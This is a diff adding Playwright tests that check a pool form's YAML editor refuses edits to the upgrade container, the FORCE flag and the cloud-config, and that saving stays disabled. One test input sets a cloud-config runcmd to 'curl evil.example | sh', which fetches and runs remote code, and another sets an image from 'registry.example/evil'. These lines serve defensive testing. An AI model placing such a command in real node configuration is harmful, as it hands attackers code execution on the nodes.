@@ -77,6 +77,30 @@ test.describe('pool form: tabs and the YAML view', () => {
     expect(field(await readPool(page), 'metadata.resourceVersion')).toBe(field(before, 'metadata.resourceVersion'));
   });
 
+  // Issue 25: the upgrade container, prepare and cloud-config decide what the nodes run, as the pin does.
+  for (const [name, change, path] of [
+    ['the upgrade container\'s image', (o: any) => { // eslint-disable-line @typescript-eslint/no-explicit-any
+      o.spec.upgradeContainer = { image: 'registry.example/evil:1' };
+    }, 'spec.upgradeContainer'],
+    ['FORCE in the upgrade container', (o: any) => { // eslint-disable-line @typescript-eslint/no-explicit-any
+      o.spec.upgradeContainer = { envs: [{ name: 'FORCE', value: 'true' }] };
+    }, 'spec.upgradeContainer'],
+    ['the cloud-config', (o: any) => { // eslint-disable-line @typescript-eslint/no-explicit-any
+      o.spec.cloudConfig = { runcmd: ['curl evil.example | sh'] };
+    }, 'spec.cloudConfig'],
+  ] as const) {
+    test(`a YAML edit of ${ name } is refused beside the editor, naming the field, and nothing is written`, async({ page }) => {
+      await loginAs(page, 'admin');
+      const before = await readPool(page);
+
+      await openYaml(page);
+      await editYaml(page, change);
+      await expect(page.getByTestId('pool-yaml-refused-edit')).toContainText(`This YAML changes ${ path }, which decides what runs on the nodes`);
+      await expect(page.getByTestId('pool-save-async-button')).toBeDisabled();
+      expect(field(await readPool(page), 'metadata.resourceVersion')).toBe(field(before, 'metadata.resourceVersion'));
+    });
+  }
+
   test('YAML that does not parse shows its line and disables saving; the form says so until it is discarded', async({ page }) => {
     await loginAs(page, 'admin');
     await openYaml(page);
